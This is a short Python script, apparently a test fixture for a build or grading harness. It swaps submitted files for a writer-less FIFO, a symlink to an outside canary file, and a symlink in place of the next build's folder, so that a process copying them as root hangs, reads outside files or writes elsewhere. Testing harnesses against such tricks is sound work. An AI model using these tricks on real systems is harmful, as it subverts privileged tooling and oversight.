# Replaces submitted files, for a reader that may later copy them as root: by a FIFO without a
# writer, a link to a file outside, and a link in place of the next build's folder.
import os
import shutil

canary, _, folder = open("outside.txt").read().split("\n")[:3]
os.remove("README.md")
os.mkfifo("README.md")
os.remove("tela.png")
os.symlink(canary, "tela.png")
shutil.rmtree(".socklab")
os.symlink(folder, ".socklab")
